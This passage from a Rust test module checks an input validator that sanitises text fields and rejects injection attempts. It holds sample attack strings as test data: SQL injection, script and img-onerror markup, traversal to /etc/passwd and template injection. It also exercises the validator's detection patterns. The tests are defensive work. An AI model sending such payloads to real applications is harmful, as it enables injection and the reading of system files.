            "ok 2024-01-01 INFO admin logged in"
        );
        // Other kinds keep inner spaces but lose every control character.
        assert_eq!(
            check_text("f", FieldKind::FileName, "my\tfile\n.pdf").unwrap(),
            "myfile.pdf"
        );
        // Emoji sequences with zero-width joiners survive.
        assert_eq!(q("family 👨‍👩‍👧?").unwrap(), "family 👨‍👩‍👧?");
        // Invisible characters cannot hide a payload.
        assert!(q("<scr\u{200B}ipt>alert(1)</script>").is_err());
    }

    #[test]
    fn empty_is_refused() {
        for kind in [
            FieldKind::Question,
            FieldKind::FileName,
            FieldKind::Identifier,
            FieldKind::Url,
        ] {
            for raw in ["", "   ", "\n\t\r", "\u{0}\u{200B}"] {
                let err = check_text("name", kind, raw).unwrap_err();
                assert_eq!(err.field, "name");
                assert!(err.reason.contains("must not be empty"), "{}", err.reason);
            }
        }
    }

    #[test]
    fn refusals_name_the_field_and_do_not_echo_the_payload() {
        let cases = [
            (FieldKind::Question, "' OR 'zq1'='zq1", "zq1"),
            (
                FieldKind::Question,
                "<img src=x onerror=zqalert(1)>",
                "zqalert",
            ),
            (FieldKind::Question, "../../etc/passwd", "passwd"),
            (FieldKind::Question, "{{zq.secret}}", "zq.secret"),
            (FieldKind::FileName, "../zqfile.pdf", "zqfile"),
            (FieldKind::Identifier, "zq id", "zq"),
            (FieldKind::Url, "zqftp://x", "zqftp"),
            (FieldKind::Question, &"zq".repeat(600), "zqzq"),
        ];
        for (kind, payload, marker) in cases {
            let err = check_text("my_field", kind, payload).unwrap_err();
            assert_eq!(err.field, "my_field");
            assert!(!err.reason.contains(marker), "{}", err.reason);
            assert!(!err.reason.contains(payload));
            assert!(err.reason.ends_with('.'));
            assert!(err.to_string().starts_with("my_field: "));
        }
    }

    #[test]
    fn refusal_reasons_match_the_attack() {
        let reason = |raw: &str| q(raw).unwrap_err().reason;
        assert_eq!(reason("' OR 1=1 --"), SQL);
        assert_eq!(reason("<script>alert(1)</script>"), MARKUP);
        assert_eq!(reason("../../etc/passwd"), TRAVERSAL);
        assert_eq!(reason("{{7*7}}"), TEMPLATE);
    }

    #[test]
    fn cleaned_text_is_returned_unchanged_otherwise() {
        let text = "What's the 'Eco' mode? 50% <OK> {OK} ../settings";
        assert_eq!(q(text).unwrap(), text);
    }

    #[test]
    fn every_pattern_compiles() {
        let mut all = sql_patterns();
        all.extend(expanded(MARKUP_PATTERNS));
        all.extend(expanded(TEMPLATE_PATTERNS));
        all.extend(expanded(TRAVERSAL_PATTERNS));
        for p in [
            ENCODED_TRAVERSAL_PATTERN,
            ENCODED_PATH_CHAR_PATTERN,
            UTF7_PATTERN,
        ] {
            all.push(p.to_owned());
        }
        for p in &all {
            assert!(Regex::new(p).is_ok(), "pattern does not compile: {p}");
        }
        assert_eq!(SQL_RULES.len(), sql_patterns().len());
        assert_eq!(MARKUP_RULES.len(), MARKUP_PATTERNS.len());
        assert_eq!(TEMPLATE_RULES.len(), TEMPLATE_PATTERNS.len());
        assert_eq!(TRAVERSAL_RULES.len(), TRAVERSAL_PATTERNS.len());
        assert!(ENCODED_TRAVERSAL.is_some());
        assert!(ENCODED_PATH_CHAR.is_some());
        assert!(UTF7.is_some());
        assert!(SQL_COMMENT.is_some());
    }
}
